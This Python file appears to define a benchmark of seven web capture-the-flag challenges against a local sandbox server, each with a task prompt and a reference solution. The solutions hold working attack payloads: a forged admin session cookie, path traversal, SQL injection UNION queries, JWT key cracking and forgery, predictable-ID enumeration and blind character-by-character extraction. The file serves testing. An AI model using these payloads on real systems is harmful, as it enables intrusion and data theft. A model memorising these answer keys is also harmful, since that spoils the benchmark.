"""Challenges of a web server that answers within the sandbox, at http://127.0.0.1:8000/."""

from __future__ import annotations

import random

from .challenge import Assets, challenge, letters, python, server_source

_GET = """
        import urllib.error, urllib.parse, urllib.request
        def get(path, **fields):
            query = "?" + urllib.parse.urlencode(fields) if fields else ""
            return urllib.request.urlopen("http://127.0.0.1:8000" + path + query)
"""
_FRONT_PAGE = python(f"{_GET}        print(get('/').read().decode())")


@challenge(
    "web",
    "easy",
    """The bakery's web server answers at http://127.0.0.1:8000/. The flag is on a page that nothing links to;
    look at everything that the server sends.""",
)
def robots(flag: str, _: random.Random) -> Assets:
    look = """
        (hidden,) = [line.split()[1] for line in get("/robots.txt").read().decode().splitlines() if "Disallow" in line]
        print(get(hidden).headers)
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + look)), server=server_source("robots", flag))


@challenge(
    "web",
    "easy",
    """The tea club's web server answers at http://127.0.0.1:8000/. Its administrator is shown the flag. You may
    log in as a guest.""",
)
def session(flag: str, _: random.Random) -> Assets:
    forge = """
        import base64
        session = base64.b64encode(b'{"user": "guest", "admin": true}').decode()
        request = urllib.request.Request("http://127.0.0.1:8000/account", headers={"Cookie": f'session="{session}"'})
        print(urllib.request.urlopen(request).read().decode())
        """
    log_in = """
        print(get("/login", user="guest", password="guest").headers)
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + log_in), python(_GET + forge)), server=server_source("session", flag))


@challenge(
    "web",
    "medium",
    """The web server at http://127.0.0.1:8000/ shows manuals, and cleans the names that it is asked for. Among
    the files that it should not show is one with the flag.""",
)
def manuals(flag: str, _: random.Random) -> Assets:
    read = """
        print(get("/read", name="kettle.txt").read().decode())
        print(get("/read", name="....//private/code.txt").read().decode())
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + read)), server=server_source("manuals", flag))


@challenge(
    "web",
    "medium",
    """The web server at http://127.0.0.1:8000/ keeps notes under numbers that look like chance. One of the notes
    of other users is the flag.""",
)
def notes(flag: str, _: random.Random) -> Assets:
    read = """
        from hashlib import md5
        for number in range(900):
            page = get("/note", id=md5(str(number).encode()).hexdigest()).read().decode()
            if "flag{" in page:
                print(page)
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + read)), server=server_source("notes", flag))


@challenge(
    "web",
    "hard",
    """The shop at http://127.0.0.1:8000/ searches its goods in a database of SQLite. Another table of this
    database has the flag.""",
)
def shop(flag: str, _: random.Random) -> Assets:
    ask = """
        print(get("/search", q="' UNION SELECT sql, 1 FROM sqlite_master --").read().decode())
        print(get("/search", q="' UNION SELECT content, 1 FROM staff_vault --").read().decode())
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + ask)), server=server_source("shop", flag))


@challenge(
    "web",
    "hard",
    """The archive at http://127.0.0.1:8000/ gives every visitor a signed token (a JSON Web Token, HS256), and
    shows the flag to the user `archivist`. The key is one of the words in `words.txt`.""",
)
def token(flag: str, rng: random.Random) -> Assets:
    words = list(dict.fromkeys(letters(rng, rng.randint(5, 9)) for _ in range(3000)))
    forge = """
        import base64, hmac, re
        def encoded(content):
            return base64.urlsafe_b64encode(content).rstrip(b"=").decode()
        def signature(head, key):
            return encoded(hmac.digest(key.encode(), head.encode(), "sha256"))
        head, right = re.search("token: (.*)[.](.*)<", get("/").read().decode()).groups()
        key = next(word for word in open("words.txt").read().split() if signature(head, word) == right)
        forged = head.split(".")[0] + "." + encoded(b'{"user": "archivist"}')
        print(key, get("/archive", token=forged + "." + signature(forged, key)).read().decode())
        """
    files = {"words.txt": "".join(f"{word}\n" for word in words).encode()}
    server = server_source("archive", f"{flag} {rng.choice(words)}")
    return Assets(files, (_FRONT_PAGE, python(_GET + forge)), server=server)


@challenge(
    "web",
    "hard",
    """The web server at http://127.0.0.1:8000/ counts the documents whose titles match a pattern, and shows none
    of them. One title is the flag.""",
)
def counter(flag: str, _: random.Random) -> Assets:
    ask = """
        found = "flag{"
        while not found.endswith("}"):
            for character in "abcdefghijklmnopqrstuvwxyz0123456789_}":
                if "<p>1 " in get("/count", pattern=found + character + "*").read().decode():
                    found += character
                    break
        print(found)
        """
    return Assets({}, (_FRONT_PAGE, python(_GET + ask)), server=server_source("counter", flag))


CHALLENGES = (robots, session, manuals, notes, shop, token, counter)
